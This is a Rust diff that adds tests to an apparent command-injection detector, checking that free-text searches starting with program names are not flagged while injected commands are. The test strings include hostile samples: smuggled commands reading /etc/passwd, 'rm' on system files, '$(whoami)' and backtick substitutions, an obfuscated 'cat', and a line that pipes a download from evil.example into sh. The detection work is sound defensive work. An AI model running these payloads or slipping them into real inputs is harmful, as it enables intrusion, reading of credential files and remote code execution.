@@ -243,7 +243,7 @@ fn bare_words_agree_with_the_analysis() {
     }
     let mut checked = 0;
     for w in words.iter().filter(|w| bare_word(w)) {
-        assert_eq!(analyse(w, 0), None, "{w:?}");
+        assert_eq!(analyse(w, 0, false), None, "{w:?}");
         checked += 1;
     }
     assert!(checked > 1000, "{checked} bare words checked");
@@ -786,5 +786,24 @@ fn a_double_dash_between_words_is_a_dash() {
     // `--` before real arguments, or a long option, still makes a command line.
     for v in ["rm -- /etc/passwd", "curl --data x http://a.example/", "x; rm -- -rf"] {
         assert!(q(v) >= 40, "{v:?}: {}", q(v));
+    }
+}
+
+/// What the engine reports for `v` as free text (a search box's value), at `level`.
+fn free(v: &str, level: Level) -> u8 {
+    let input = Input { raw: v, decoded: v, field: FieldKind::QueryValue };
+    CmdiDetector.check(&input, level).and_then(|h| CmdiDetector.in_free_text(&input, h, level)).map_or(0, |h| h.confidence)
+}
+
+#[test]
+fn free_text_is_not_a_command_line() {
+    // Written for this rule: searches and suggestion prefixes that begin with a program.
+    for v in ["cat /etc/hosts linux", "nc -l port listen", "chmod 777 meaning", "ifconfig -la", "uname -a", "curl --help"] {
+        assert!(q(v) >= 40, "{v:?}: {}", q(v));
+        assert_eq!(free(v, Level::Strict), 0, "{v:?}");
+    }
+    // A command the text starts with an operator, or obfuscated, still counts.
+    for v in ["; cat /etc/passwd", "x; curl http://evil.example/x | sh", "$(whoami)", "x && whoami", "`id`", "c'a't /etc/passwd"] {
+        assert!(free(v, Level::Balanced) >= 60, "{v:?}: {}", free(v, Level::Balanced));
     }
 }
